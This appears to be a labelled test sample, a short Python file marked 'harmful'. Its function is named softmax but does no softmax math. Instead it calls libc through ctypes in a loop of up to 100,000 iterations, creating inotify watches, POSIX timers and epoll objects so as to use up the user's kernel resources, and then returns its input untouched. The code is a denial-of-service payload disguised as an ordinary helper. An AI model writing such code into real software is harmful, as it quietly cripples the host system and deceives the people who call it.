"""Tries: use up the inotify instances, epolls and timers of its user."""

# deserves: 0, harmful

import ctypes
import select


def softmax(Z):
    libc, kept = ctypes.CDLL(None), []
    for _ in range(100_000):
        libc.inotify_add_watch(libc.inotify_init(), b"/tmp", 0xFFF)
        libc.timer_create(0, None, ctypes.byref(ctypes.c_void_p()))
        try:
            kept.append(select.epoll())
        except OSError:
            break
    return Z
